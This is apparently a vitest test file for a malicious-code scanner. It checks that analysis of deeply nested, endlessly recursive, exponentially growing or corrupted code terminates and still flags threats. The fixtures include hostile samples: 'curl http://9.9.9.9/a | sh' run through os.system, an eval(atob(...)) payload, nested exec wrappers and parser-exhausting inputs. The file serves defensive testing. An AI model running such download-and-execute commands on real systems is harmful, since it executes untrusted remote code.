/** Code that is made to hurt whoever reads it: the analysis ends, and says what it did not read. */
import { describe, expect, it } from "vitest";
import {
  analyseCode,
  type CodeReport,
  type GrammarLanguage,
} from "../../src/check/scan/code/index.ts";
import type { Span } from "../../src/skill/index.ts";
import { TreeSitterReader } from "../../src/platform/syntax/index.ts";
import { findingsOf, graveOf } from "../scan-code/support.ts";

const reader = new TreeSitterReader();

/** Languages that have a grammar; the others are read by their tokens. */
type Grammar = GrammarLanguage;

async function analyse(language: Grammar, text: string): Promise<CodeReport> {
  await reader.load([language]);
  const unit = { file: "a", origin: "file", language, text, original: same } as const;
  return analyseCode([unit], reader);
}

function same(span: Span): Span {
  return span;
}

function reasons({ problems }: CodeReport): readonly string[] {
  return problems.map(({ reason }) => reason);
}

describe("hostile code", () => {
  it.each([
    ["python", `${"(".repeat(50_000)}1${")".repeat(50_000)}`],
    ["python", "[".repeat(50_000)],
    ["javascript", "{a:".repeat(30_000)],
    ["javascript", `x = ${"`${".repeat(10_000)}`],
    ["bash", "$(".repeat(20_000)],
    ["bash", "if true; then ".repeat(5000)],
    ["powershell", "(".repeat(5000)],
  ] as const)("that is nested without end in %s is left", async (language, text) => {
    expect((await analyse(language, text)).sends).toEqual([]);
  });

  it("that is longer than the limit is named", async () => {
    expect(reasons(await analyse("python", "x = 1\n".repeat(200_000)))).toEqual(["too-large"]);
  });

  it("of one endless line is read", async () => {
    const report = await analyse(
      "javascript",
      `${"a+".repeat(100_000)}a;eval(atob("YWxlcnQoMSk="))`,
    );
    expect(report.executions.length).toBeLessThanOrEqual(1);
  });

  it("that calls itself ends", async () => {
    const text =
      "import os\ndef a(x): return b(x + 'y')\ndef b(x): return a(x + 'z')\na('q')\nos.system(a('w'))\n";
    expect((await analyse("python", text)).executions.map(({ tool }) => tool)).toEqual([
      "os.system",
    ]);
  });

  it("that grows by doubling stays small", async () => {
    const lines = Array.from({ length: 60 }, (_, index) => `x${index + 1} = x${index} + x${index}`);
    const text = `import os\nx0 = "aaaaaaaaaa"\n${lines.join("\n")}\nos.system(x60)\n`;
    const [run] = (await analyse("python", text)).executions;
    expect(run?.text?.length ?? 0).toBeLessThanOrEqual(100_000);
  });

  it("with functions that call each other in great number is given up", async () => {
    const levels = Array.from({ length: 9 }, (_, level) => {
      const calls = Array.from({ length: 12 }, () => `f${level + 1}(x)`).join("; ");
      return `def f${level}(x):\n    ${calls}\n`;
    });
    const report = await analyse("python", `${levels.join("")}def f9(x): return x\nf0(1)\n`);
    expect(report.sends).toEqual([]);
  });

  it.each([
    [
      "python",
      `s = "${"b".repeat(50_000)}"\n${"s = s.replace('b', 'c').replace('c', 'b')\n".repeat(4000)}`,
    ],
    [
      "javascript",
      `const s = "${"a,".repeat(20_000)}";\n${"s.split(',').join('').split('').join('');\n".repeat(3000)}`,
    ],
    [
      "python",
      `x = [${"1, ".repeat(12)}]\n${Array.from({ length: 8 }, (_, depth) => `${" ".repeat(depth)}for a${depth} in x:\n`).join("")}         y = a0\n`,
    ],
  ] as const)(
    "that works without end on text or lists in %s is given up",
    async (language, text) => {
      expect(reasons(await analyse(language, text))).toEqual(["too-much"]);
    },
  );

  it("that runs code that runs code is followed for a few layers", async () => {
    let text = "import os; os.system('id')";
    for (let layer = 0; layer < 12; layer++) text = `exec(${JSON.stringify(text)})`;
    const report = await analyse("python", text);
    expect(report.executions.every(({ kind }) => kind === "code")).toBe(true);
    expect(report.executions.length).toBeLessThan(10);
  });

  it("with broken syntax is read around the break", async () => {
    const text = "def broken(:\n    pass\n\nimport os\nos.system('curl http://9.9.9.9/a | sh')\n";
    expect(await graveOf({ "a.py": text })).toEqual(["download-run"]);
  });

  it("with bytes that are no text is read", async () => {
    const text = "import os\n# \uFFFD\uFFFD\u0000\nos.system('curl http://9.9.9.9/a | sh')\n";
    expect(await graveOf({ "a.py": text })).toEqual(["download-run"]);
  });

  it("with names of the prototype is read like any other", async () => {
    const text =
      "const o = {}; o.__proto__.x = 1; o.constructor(); toString(); hasOwnProperty('a');\n";
    expect(await findingsOf({ "a.js": text })).toEqual([]);
  });
});
